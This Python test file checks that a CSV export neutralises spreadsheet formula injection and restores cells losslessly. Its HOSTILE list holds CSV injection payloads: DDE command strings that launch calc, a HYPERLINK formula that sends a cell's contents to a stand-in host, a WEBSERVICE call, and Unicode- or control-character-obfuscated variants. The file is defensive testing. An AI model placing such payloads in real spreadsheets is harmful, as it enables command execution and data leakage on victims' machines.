"""No cell of a CSV starts a formula, and what was written can always be got back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from micro_projects.open_data import tables
from micro_projects.open_data.cells import FORMULA, harmless, restored
from micro_projects.open_data.dictionary import Column, Table

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test/?x="&A1,"点我")',
    '=WEBSERVICE("http://example.test")',
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋86",
    "－5",
    "＠SUM(A1)",
    "﹦1",
    "|calc",
    "%0A=1",
    "'=1+1",
    "'",
    "''",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_hostile_cell_is_marked_and_comes_back(cell: str) -> None:
    assert harmless(cell)[0] == "'"
    assert harmless(cell) == "'" + cell
    assert restored(harmless(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["", "三号楼", "2026-03-24", "FT-LH-2026-001", "a=b", "“=1”", "1+1", "第 1 期"]
)
def test_an_ordinary_cell_stays(cell: str) -> None:
    assert harmless(cell) == cell == restored(cell)


@given(st.text())
def test_whatever_is_written_comes_back(cell: str) -> None:
    written = harmless(cell)
    assert restored(written) == cell
    assert written.strip()[:1] not in FORMULA or written == ""


def test_a_table_of_hostile_cells_reads_back() -> None:
    columns = (Column("text", "text", "", "", ""), Column("cny", "money", "", "", ""))
    table = Table("t", "", "", "", "", columns)
    hostile = [*HOSTILE, 'with "quotes", commas\r\nand lines']
    written = tables.as_csv(table, [{"text": cell, "cny": "-5.00"} for cell in hostile])
    assert written.startswith(b"\xef\xbb\xbftext,cny\r\n")
    assert written.count(b"\n") - sum(c.count("\n") for c in hostile) == len(hostile) + 1
    read = list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert [restored(row["text"]) for row in read] == hostile
    assert all(row["text"][0] not in FORMULA for row in read)
    assert {row["cny"] for row in read} == {"-5.00"}, "a minus before an amount of ours stays a minus"
